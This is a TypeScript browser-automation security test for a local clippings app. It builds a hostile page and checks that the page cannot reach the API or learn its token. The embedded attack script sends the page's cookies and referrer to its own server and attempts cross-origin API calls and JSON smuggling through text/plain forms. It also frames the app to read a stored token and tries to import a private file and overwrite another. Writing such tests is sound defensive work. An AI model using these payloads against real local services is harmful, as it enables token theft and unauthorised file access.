/**
 * A hostile web page on another loopback port, in the same browser the user opened the
 * app in, tries everything a page can to reach the API or learn the token: it reads the
 * cookies and Referer its own server receives, calls the API with fetch (with and
 * without credentials, `no-cors`), posts forms (text/plain and urlencoded) to
 * export.write and clippings.import, sends a beacon, loads the API as an image and a
 * script, uploads a file and asks for a download place, and frames the app. Nothing it
 * receives may work as `X-Cuttings-Token`, and the archive and the file system stay
 * unchanged. Even with the real token, the plain paths it names are refused: the page
 * may name files only through grants. Two `serve` instances in one browser keep working
 * side by side through reloads.
 */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Response } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HARWICK } from '../fixtures/articles.ts';
import { call, importPaths } from './api.ts';
import { launch, newContext, serve, type Served } from './harness.ts';

interface Seen {
  method: string;
  url: string;
  cookie: string;
  referer: string;
  body: string;
}

/** The hostile server: 127.0.0.1 only, logs every request, serves the attack page. */
async function hostile(app: Served, payloads: { importArgs: string; exportArgs: string }): Promise<{ server: Server; origin: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const entry: Seen = { method: req.method ?? '', url: req.url ?? '', cookie: req.headers.cookie ?? '', referer: req.headers.referer ?? '', body: Buffer.concat(chunks).toString('utf8') };
      seen.push(entry);
      if (req.url === '/' || req.url?.startsWith('/?')) {
        // Whatever the browser sent us (cookie values, referer) is tried as a token in the page too.
        const leaked = [...entry.cookie.split(';').map((p) => p.trim().split('=').slice(1).join('=')), entry.referer].filter(Boolean);
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
        res.end(attackPage(app.origin, leaked, payloads));
      } else {
        res.writeHead(204);
        res.end();
      }
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const addr = server.address();
  const port = typeof addr === 'object' && addr ? addr.port : 0;
  return { server, origin: `http://127.0.0.1:${port}`, seen };
}

function attackPage(api: string, leaked: string[], payloads: { importArgs: string; exportArgs: string }): string {
  const data = JSON.stringify({ api, leaked, ...payloads }).replace(/</g, '\\u003c');
  return `<!doctype html><html><head><meta charset="utf-8"><title>Free kittens</title></head><body>
<script>
const D = ${data};
const report = (what, value) => fetch('/report', { method: 'POST', body: JSON.stringify({ what, value: String(value) }) }).catch(() => {});
async function attack() {
  report('document.cookie', document.cookie);
  report('referrer', document.referrer);
  const tokens = [''].concat(D.leaked);
  const bodies = { 'clippings.import': D.importArgs, 'export.write': D.exportArgs, 'archive.stats': '{}', 'upload?name=evil.html': '<p>planted</p>', 'save?name=evil.md': '{}' };
  const tries = [];
  for (const [method, body] of Object.entries(bodies)) {
    for (const t of tokens) {
      const q = t ? (method.includes('?') ? '&' : '?') + 'token=' + encodeURIComponent(t) : '';
      const url = D.api + '/api/' + method + q;
      for (const init of [
        { method: 'POST', body, credentials: 'include', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } },
        { method: 'POST', body, credentials: 'omit', mode: 'no-cors' },
        { method: 'POST', body, credentials: 'include', headers: { 'Content-Type': 'application/json', 'X-Cuttings-Token': t } },
        { method: 'POST', body, credentials: 'include', headers: { 'Content-Type': 'application/json' } },
        { method: 'GET', credentials: 'include', mode: 'no-cors' },
      ]) {
        tries.push(fetch(url, init).then((r) => r.text()).then((x) => report('read ' + method, x), () => {}));
      }
      try { navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' })); } catch (e) {}
      try { navigator.sendBeacon(url, body); } catch (e) {}
      for (const enctype of ['text/plain', 'application/x-www-form-urlencoded']) {
        const name = 'f' + Math.random().toString(36).slice(2);
        const frame = document.createElement('iframe');
        frame.name = name;
        document.body.appendChild(frame);
        const form = document.createElement('form');
        form.method = 'POST';
        form.action = url;
        form.enctype = enctype;
        form.target = name;
        const input = document.createElement('input');
        input.type = 'hidden';
        // text/plain sends "name=value": make the whole body the JSON arguments.
        input.name = body.slice(0, -1) + ',"x":"';
        input.value = '"}';
        form.appendChild(input);
        document.body.appendChild(form);
        tries.push(new Promise((r) => { frame.onload = r; setTimeout(r, 3000); }));
        form.submit();
      }
      const img = new Image();
      img.src = url;
      const s = document.createElement('script');
      s.src = url;
      document.head.appendChild(s);
      document.body.appendChild(img);
      tries.push(new Promise((r) => { img.onload = img.onerror = r; }));
      tries.push(new Promise((r) => { s.onload = s.onerror = r; }));
    }
  }
  // Frame the app (with and without a guessed token) and try to read it.
  for (const src of [D.api + '/', D.api + '/?token=' + encodeURIComponent(D.leaked[0] || '')]) {
    const f = document.createElement('iframe');
    f.src = src;
    document.body.appendChild(f);
    tries.push(new Promise((r) => { f.onload = () => { try { report('frame', f.contentWindow.sessionStorage.getItem('cuttings.token')); } catch (e) {} r(); }; setTimeout(r, 3000); }));
  }
  await Promise.all(tries);
  await fetch('/done', { method: 'POST' });
}
attack();
</script></body></html>`;
}

/** Every value a request carried that could be a credential: each cookie's value, the whole header, the Referer and its query values. */
function candidates(seen: Seen[]): string[] {
  const out = new Set<string>();
  for (const s of seen) {
    for (const raw of [s.cookie, s.referer, s.body, s.url]) {
      if (!raw) continue;
      out.add(raw);
      for (const part of raw.split(/[;&?\s"]/)) {
        const v = part.trim().split('=').slice(1).join('=');
        if (v) {
          out.add(v);
          try {
            out.add(decodeURIComponent(v));
          } catch {
            // not URI-encoded
          }
        }
      }
    }
  }
  return [...out];
}

let app: Served;
let second: Served;
let browser: Browser;
let tmp: string;

beforeAll(async () => {
  [app, second, browser] = await Promise.all([serve(), serve(), launch()]);
  tmp = mkdtempSync(path.join(os.tmpdir(), 'cuttings-attack-'));
});

afterAll(async () => {
  await browser?.close();
  await Promise.all([app?.stop(), second?.stop()]);
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

describe('a hostile page on another loopback port', () => {
  it('gets nothing that unlocks the API and changes nothing, after the user opened the app in the same browser', async () => {
    await importPaths(app, [HARWICK.capture]);
    const victim = path.join(tmp, 'victim.txt');
    const para = 'These are private notes that nobody else should be able to read, kept on this computer and never published anywhere at all. ';
    writeFileSync(victim, `Private notes on the budget\n\n${para.repeat(6)}\n\n${para.repeat(5)}\n\n${para.repeat(4)}\n`);
    const target = path.join(tmp, 'overwritten.md');
    const payloads = {
      importArgs: JSON.stringify({ paths: [victim] }),
      exportArgs: JSON.stringify({ selection: { all: true }, format: 'md', out: target }),
    };
    const before = await call(app, 'archive.stats', {});
    const evil = await hostile(app, payloads);
    try {
      const ctx = await newContext(browser, app);
      // The user opens the real app through its access link: any cookie or session exists now.
      const page = await ctx.newPage();
      await page.goto(app.url);
      await page.locator('.topbar').waitFor();
      await page.getByText(HARWICK.titleWords).first().waitFor();

      // Then visits the hostile page in the same browser (another tab, and the app tab navigated away).
      const done = new Promise<void>((resolve) => {
        const timer = setInterval(() => {
          if (evil.seen.some((s) => s.url === '/done')) {
            clearInterval(timer);
            resolve();
          }
        }, 50);
      });
      // Every request the hostile pages make to the app, to show the attempts really happened.
      const attempts: { type: string; method: string; url: string }[] = [];
      ctx.on('request', (r) => {
        if (r.url().startsWith(app.origin)) attempts.push({ type: r.resourceType(), method: r.method(), url: r.url() });
      });
      const tab = await ctx.newPage();
      await tab.goto(evil.origin + '/');
      await done;
      await page.goto(evil.origin + '/?again');
      await expect.poll(() => evil.seen.filter((s) => s.url === '/done').length, { timeout: 30_000 }).toBe(2);
      // Give stray beacons a moment to land before judging the archive.
      await tab.waitForTimeout(500);

      const kinds = new Set(attempts.map((a) => a.type));
      for (const kind of ['fetch', 'ping', 'document', 'image', 'script']) expect(kinds, JSON.stringify([...kinds])).toContain(kind);
      expect(attempts.some((a) => a.method === 'POST' && a.url.includes('/api/export.write'))).toBe(true);
      expect(attempts.some((a) => a.method === 'POST' && a.url.includes('/api/clippings.import'))).toBe(true);
      expect(attempts.some((a) => a.method === 'POST' && a.url.includes('/api/upload'))).toBe(true);
      expect(attempts.some((a) => a.method === 'POST' && a.url.includes('/api/save'))).toBe(true);

      // Nothing the hostile server received contains the token or works as the token.
      const all = JSON.stringify(evil.seen);
      expect(all).not.toContain(app.token);
      expect(all).not.toContain(encodeURIComponent(app.token));
      const values = candidates(evil.seen);
      expect(values.length).toBeGreaterThan(0);
      for (const v of values) {
        const res = await fetch(`${app.origin}/api/archive.stats`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Cuttings-Token': v }, body: '{}' });
        expect(res.status, `value the hostile server received: ${v.slice(0, 80)}`).toBe(401);
      }

      // The archive and the file system are unchanged.
      expect(await call(app, 'archive.stats', {})).toEqual(before);
      expect(existsSync(target)).toBe(false);

      // Even with the real token, the paths the attacker named are refused: the page names
      // files only through grants (before, these two calls read /etc/passwd-like files and
      // overwrote ~/.bashrc-like ones).
      await expect(call(app, 'clippings.import', JSON.parse(payloads.importArgs))).rejects.toMatchObject({ code: 'forbidden' });
      await expect(call(app, 'export.write', JSON.parse(payloads.exportArgs))).rejects.toMatchObject({ code: 'forbidden' });
      expect(await call(app, 'archive.stats', {})).toEqual(before);
      expect(existsSync(target)).toBe(false);
      await ctx.close();
    } finally {
      await new Promise((r) => evil.server.close(r));
    }
  });

  it('leaves two serve instances in one browser working side by side through reloads', async () => {
    const ctx = await newContext(browser, app);
    const failures: string[] = [];
    const watch = (r: Response) => {
      if (r.status() >= 400) failures.push(`${r.status()} ${r.url()}`);
    };
    ctx.on('response', watch);
    const a = await ctx.newPage();
    await a.goto(app.url);
    await a.locator('.topbar').waitFor();
    const b = await ctx.newPage();
    await b.goto(second.url);
    await b.getByRole('heading', { name: 'Your archive is empty' }).waitFor();
    for (const p of [a, b, a, b]) {
      expect((await p.reload())?.status()).toBe(200);
      await p.locator('.topbar').waitFor();
      await p.waitForLoadState('networkidle');
    }
    await b.getByRole('heading', { name: 'Your archive is empty' }).waitFor();
    expect(await a.getByRole('heading', { name: 'Your archive is empty' }).count()).toBe(0);
    expect(failures).toEqual([]);
    await ctx.close();
  });
});
